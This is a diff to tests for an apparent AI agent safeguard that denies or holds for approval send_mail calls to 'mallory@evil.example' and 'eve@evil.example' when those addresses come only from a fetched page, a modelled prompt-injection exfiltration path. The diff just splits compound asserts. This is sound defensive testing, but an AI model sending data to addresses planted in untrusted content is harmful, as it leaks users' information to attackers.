@@ -102,7 +102,8 @@ async def test_taint_words_and_trusted_values_outlive_a_restart(tmp_path: Path) 
         refused = await after.run("send_mail", to="mallory@evil.example")
         another = await after.run("send_mail", session="t", to="mallory@evil.example")
 
-    assert isinstance(refused, Err) and refused.code == "denied"
+    assert isinstance(refused, Err)
+    assert refused.code == "denied"
     assert after.reasons == [("to 'mallory@evil.example' appears only in result c_fetch_page of fetch_page",)]
     assert another.ok
     assert after.warnings == []
@@ -227,7 +228,8 @@ async def test_a_ticket_is_answered_in_another_process_under_the_same_taint() ->
     await first.execute_parallel([Call("a", "fetch_page", {})], ToolContext("s", turn_id="1"))
     call = Call("b", "send_mail", {"to": "mallory@evil.example"})
     [waiting] = await first.execute_parallel([call], ToolContext("s", turn_id="2"))
-    assert isinstance(waiting.result, Err) and waiting.result.ticket is not None
+    assert isinstance(waiting.result, Err)
+    assert waiting.result.ticket is not None
 
     other = build()
     context = ToolContext("s", turn_id="2")
@@ -235,5 +237,6 @@ async def test_a_ticket_is_answered_in_another_process_under_the_same_taint() ->
     again = await other.execute_parallel([Call("c", "send_mail", {"to": "eve@evil.example"})], context)
 
     assert outcome.result.ok, outcome.result
-    assert isinstance(again[0].result, Err) and again[0].result.code == "needs_approval"
+    assert isinstance(again[0].result, Err)
+    assert again[0].result.code == "needs_approval"
     assert context.tainted
